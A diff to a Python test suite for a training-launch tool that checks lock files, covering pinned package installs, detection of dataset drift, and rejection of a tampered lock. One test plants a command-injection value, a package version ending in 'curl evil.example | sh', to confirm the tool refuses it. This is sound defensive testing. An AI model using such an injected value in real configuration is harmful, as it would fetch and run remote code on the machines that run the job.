@@ -241,32 +241,61 @@ def test_skypilot_task_shape(tmp_path: Path) -> None:
         shellcheck(script)
 
 
-def test_skypilot_setup_installs_the_lock(tmp_path: Path) -> None:
+COMMIT = "0123456789abcdef0123456789abcdef01234567"
+PACKAGES = {
+    "axowrap": "0.1.0",
+    "axolotl": "0.19.0",
+    "transformers": "5.16.1",
+    "peft": "0.20.0",
+    "trl": "1.9.0",
+    "accelerate": "1.13.0",
+    "torch": "2.13.0",
+}
+
+
+def locked_repo(tmp_path: Path, packages: dict[str, str] = PACKAGES) -> Path:
+    """repo/big.yaml (base model pinned by commit) and an axowrap.lock that matches it."""
+    from axowrap.hashing import file_sha256
+
     repo = tmp_path / "repo"
-    write(
-        repo / "axowrap.lock",
-        yaml.safe_dump(
-            {
-                "version": 1,
-                "specs": {},
-                "packages": {
-                    "axowrap": "0.1.0",
-                    "axolotl": "0.19.0",
-                    "transformers": "5.16.1",
-                    "peft": "0.20.0",
-                    "trl": "1.9.0",
-                    "accelerate": "1.13.0",
-                    "torch": "2.13.0",
-                },
-            }
-        ),
-    )
-    _, task = skypilot_task(tmp_path)
+    spec = spec_in(repo, BIG.replace("datasets:", f"revision: {COMMIT}\ndatasets:"))
+    entry = {
+        "base_model": {"id": "HuggingFaceTB/SmolLM2-135M-Instruct", "revision": COMMIT, "source": "spec"},
+        "datasets": {"data/sql.jsonl": file_sha256(repo / "data" / "sql.jsonl")},
+    }
+    write(repo / "axowrap.lock", yaml.safe_dump({"version": 1, "specs": {"big.yaml": entry}, "packages": packages}))
+    return spec
+
+
+def test_skypilot_setup_installs_the_lock(tmp_path: Path) -> None:
+    spec = locked_repo(tmp_path)
+    out = tmp_path / "task.yaml"
+    res = run_cli("launch", "skypilot", str(spec), "-o", str(out))
+    assert res.code == 0, res.err
+    task = yaml.safe_load(out.read_text())
     assert "pip install -q torch==2.13.0\n" in task["setup"]
     assert (
         "'axowrap[train]==0.1.0' accelerate==1.13.0 axolotl==0.19.0 peft==0.20.0 transformers==5.16.1 trl==1.9.0"
         in task["setup"]
     )
+
+
+def test_launch_checks_the_lock_like_run_locked(tmp_path: Path) -> None:
+    """`launch` never checked the lock: a job trained other data than was locked and reviewed."""
+    spec = locked_repo(tmp_path)
+    (spec.parent / "data" / "sql.jsonl").write_text('{"question": "q", "context": "c", "answer": "a"}\n' * 30)
+    for kind, name in (("skypilot", "task.yaml"), ("slurm", "job.sbatch")):
+        res = run_cli("launch", kind, str(spec), "-o", str(tmp_path / name))
+        assert res.code == 1
+        assert "big.yaml: dataset data/sql.jsonl: sha256 locked" in res.err and "drifted from" in res.err
+        assert not (tmp_path / name).exists()
+
+
+def test_a_crafted_lock_cannot_reach_the_setup_script(tmp_path: Path) -> None:
+    spec = locked_repo(tmp_path, {**PACKAGES, "peft": "0.20.0; curl evil.example | sh"})
+    res = run_cli("launch", "skypilot", str(spec), "-o", str(tmp_path / "task.yaml"))
+    assert res.code == 2
+    assert "packages.peft: '0.20.0; curl evil.example | sh' is not a package version" in res.err
 
 
 @pytest.mark.axolotl  # the environment check between the nodes imports torch
